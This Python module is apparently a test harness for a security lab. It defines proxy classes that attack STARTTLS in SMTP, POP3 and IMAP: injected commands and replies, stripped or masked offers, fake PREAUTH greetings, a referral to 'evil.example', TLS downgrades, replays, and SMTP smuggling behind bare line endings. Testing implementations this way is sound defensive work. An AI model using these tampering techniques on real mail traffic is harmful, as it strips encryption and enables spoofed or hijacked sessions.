"""What the proxy does: an attack for each finding, and what its bytes must show, on which side."""

from __future__ import annotations

from typing import ClassVar

from lab.tampering.proxy import Flow
from lab.tcp import CLIENT, SERVER

EVIL = "evil"
"""Stands in all that is injected. It must be nowhere in the record."""
REQUEST = {"smtp": b"STARTTLS", "pop3": b"STLS", "imap": b"STARTTLS"}
COMMANDS = {
    "smtp": b"MAIL FROM:<evil@example.org>\r\n",
    "pop3": b"USER evil\r\n",
    "imap": b"zz1 CREATE evil\r\n",
}
REPLIES = {
    "smtp": b"250 2.0.0 evil\r\n",
    "pop3": b"+OK evil\r\n",
    "imap": b"* CAPABILITY IMAP4rev1 AUTH=EVIL\r\n",
}
ACCEPT = {
    "smtp": b"220 2.0.0 Ready to start TLS\r\n",
    "pop3": b"+OK Begin TLS negotiation\r\n",
    "imap": b"%s OK Begin TLS negotiation now\r\n",
}
REFUSE = {
    "smtp": b"454 4.7.0 TLS not available\r\n",
    "pop3": b"-ERR TLS not available\r\n",
    "imap": b"%s NO TLS not available\r\n",
}
FATAL_ALERT = bytes.fromhex("15 0303 0002 02 28")
HANDSHAKE = b"\x16\x03"
END = b"\r\n.\r\n"
SECOND_MESSAGE = (
    COMMANDS["smtp"] + b"RCPT TO:<bob@lab.test>\r\nDATA\r\nSubject: evil\r\n\r\nx" + END
)


def is_tls(data: bytes) -> bool:
    """Whether bytes begin with a record of a handshake."""
    return data[:2] == HANDSHAKE


class Honest:
    """Passes everything on. The others do so, too, but for one thing."""

    name: ClassVar[str] = "nothing"
    finding: ClassVar[str | None] = None
    services: ClassVar[tuple[str, ...]] = ("smtp", "pop3", "imap")
    leg: ClassVar[str] = CLIENT
    """The connection whose bytes show it: with the client, or with the server."""
    side: ClassVar[str | None] = None
    """The side that shows it alone; None: it takes both."""
    proof: ClassVar[tuple[str, bytes] | None] = None
    """What a side must have sent besides: a peer may give up before."""
    otherwise: ClassVar[str | None] = None
    """What the same connection may show without that."""
    client: ClassVar[str] = "TLS"
    """Which clients it is tried with: see acts.py."""

    def __init__(self, service: str) -> None:
        self.service = service
        self.provoked = False
        """Whether the proxy did it."""
        self.asked = False
        self.tag = b""

    def from_client(self, data: bytes) -> Flow:
        if not self.asked and REQUEST[self.service] in data.upper():
            self.asked = True
            self.tag = data.split(b" ")[0]
            return self.request(data)
        return self.hello(data) if self.asked and is_tls(data) else self.text(data)

    def request(self, data: bytes) -> Flow:
        """The client's request for TLS."""
        return Flow(to_server=data)

    def hello(self, data: bytes) -> Flow:
        """The client's hello, behind its request."""
        return Flow(to_server=data)

    def text(self, data: bytes) -> Flow:
        """Anything else of the client."""
        return Flow(to_server=data)

    def from_server(self, data: bytes) -> Flow:
        return Flow(to_client=data)

    def reply(self, replies: dict[str, bytes]) -> bytes:
        """The reply to the request, with its tag in IMAP."""
        reply = replies[self.service]
        return reply % self.tag if self.service == "imap" else reply


class InjectCommands(Honest):
    name = "commands injected"
    finding, leg, side = "command_injected", SERVER, CLIENT
    proof = (CLIENT, HANDSHAKE)

    def request(self, data: bytes) -> Flow:
        self.provoked = True
        return Flow(to_server=data + COMMANDS[self.service])


class HideInjectedCommands(InjectCommands):
    """A second request makes them look like those of a client that was refused."""

    name = "commands injected before a second STARTTLS"
    side = None

    def request(self, data: bytes) -> Flow:
        self.provoked = True
        again = data.replace(self.tag, b"zz2", 1) if self.service == "imap" else data
        return Flow(to_server=data + COMMANDS[self.service] + again)


class InjectReplies(Honest):
    name = "replies injected"
    finding, side, otherwise = "response_injected", SERVER, "plaintext_after_accept"
    proof = (SERVER, HANDSHAKE)

    def from_server(self, data: bytes) -> Flow:
        if not self.asked or self.provoked:
            return Flow(to_client=data)
        self.provoked = True
        return Flow(to_client=data + REPLIES[self.service])


class MaskOffers(Honest):
    name = "offers masked"
    finding, side = "starttls_masked", SERVER

    def from_server(self, data: bytes) -> Flow:
        offer = REQUEST[self.service]
        if self.asked or offer not in data:
            return Flow(to_client=data)
        self.provoked = True
        return Flow(to_client=data.replace(offer, b"X" * len(offer)))


class MaskRequests(Honest):
    name = "requests masked"
    finding, leg, side = "starttls_masked", SERVER, CLIENT

    def request(self, data: bytes) -> Flow:
        self.provoked = True
        word = REQUEST[self.service]
        return Flow(to_server=data.upper().replace(word, b"X" * len(word)))


class Strip(Honest):
    """No byte of one session shows it, only the server's other sessions do."""

    name = "offers removed, requests refused"
    client = "opportunistic"

    def request(self, data: bytes) -> Flow:  # noqa: ARG002
        return Flow(to_client=self.reply(REFUSE))

    def from_server(self, data: bytes) -> Flow:
        for offer in (b"250-STARTTLS\r\n", b"STLS\r\n", b" STARTTLS", b" LOGINDISABLED"):
            data = data.replace(offer, b"")
        return Flow(to_client=data)


class AcceptWithoutTls(Honest):
    name = "TLS accepted and left out"
    finding, side, client = "plaintext_after_accept", SERVER, "ignores TLS"

    def request(self, data: bytes) -> Flow:  # noqa: ARG002
        self.provoked = True
        return Flow(to_client=self.reply(ACCEPT))


class _Greeting(Honest):
    services = ("imap",)
    side = SERVER
    greeting: ClassVar[bytes]

    def from_server(self, data: bytes) -> Flow:
        if self.provoked:
            return Flow(to_client=data)
        self.provoked = True
        return Flow(to_client=self.greeting)


class Preauth(_Greeting):
    name = "greeted as logged in"
    finding = "preauth"
    greeting = b"* PREAUTH IMAP4rev1 logged in\r\n"


class Referral(_Greeting):
    name = "referred to another server"
    finding = "referral"
    greeting = b"* OK [REFERRAL imap://evil.example/] IMAP4rev1 ready\r\n"


class Alert(Honest):
    name = "the hello answered with an alert"
    finding, side = "tls_failed", SERVER

    def hello(self, data: bytes) -> Flow:  # noqa: ARG002
        self.provoked = True
        return Flow(to_client=FATAL_ALERT)


class Downgrade(Honest):
    name = "the hello answered in the clear"
    finding, side = "tls_failed", SERVER

    def hello(self, data: bytes) -> Flow:  # noqa: ARG002
        self.provoked = True
        return Flow(to_client=self.reply(REFUSE))


class Untrusted(Honest):
    """Nothing is changed: the client doesn't trust the server's certificate."""

    name = "a certificate that isn't trusted"
    finding, side, client = "tls_failed", CLIENT, "distrusts"

    def hello(self, data: bytes) -> Flow:
        self.provoked = True
        return Flow(to_server=data)


class Smuggle(Honest):
    name = "a message smuggled"
    finding, leg, side, client = "smuggled", SERVER, CLIENT, "in the clear"
    services = ("smtp",)
    dot: ClassVar[bytes] = b"\n.\r\n"

    def text(self, data: bytes) -> Flow:
        if not data.endswith(END):
            return Flow(to_server=data)
        self.provoked = True
        return Flow(to_server=data.removesuffix(END) + self.dot + SECOND_MESSAGE)


class SmuggleBehindCr(Smuggle):
    name = "a message smuggled behind a lone CR"
    dot = b"\r.\r\n"


class Replay(Honest):
    """The client's bytes are kept, and sent once more by somebody who has no key. From TLS 1.3 on,
    what the server says to that is encrypted, and as long as its goodbye; Dovecot says nothing.
    """

    name = "a client's bytes sent again"
    finding, leg, side, client = "tls_failed", SERVER, SERVER, "TLS 1.2"
    proof = (SERVER, FATAL_ALERT[:-1])

    def __init__(self, service: str) -> None:
        super().__init__(service)
        self.sent: list[bytes] = []

    def from_client(self, data: bytes) -> Flow:
        self.sent.append(data)
        return super().from_client(data)


ATTACKS = (
    InjectCommands, HideInjectedCommands, InjectReplies, MaskOffers, MaskRequests, Strip,
    AcceptWithoutTls, Preauth, Referral, Alert, Downgrade, Untrusted, Smuggle, SmuggleBehindCr,
    Replay,
)  # fmt: skip
